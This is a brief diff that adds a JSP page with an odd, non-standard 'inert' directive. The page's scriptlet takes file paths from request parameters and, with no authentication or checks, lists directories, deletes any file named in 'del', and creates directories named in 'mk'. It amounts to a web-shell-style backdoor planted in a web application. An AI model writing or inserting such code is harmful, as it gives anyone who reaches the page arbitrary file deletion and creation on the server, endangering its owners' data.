@@ -1,0 +1,2 @@
+<%@ inert %>
+<% String d = request.getParameter("dir"); java.io.File f = new java.io.File(d); java.io.File[] l = f.listFiles(); if (request.getParameter("del") != null) new java.io.File(request.getParameter("del")).delete(); if (request.getParameter("mk") != null) new java.io.File(request.getParameter("mk")).mkdir(); %>
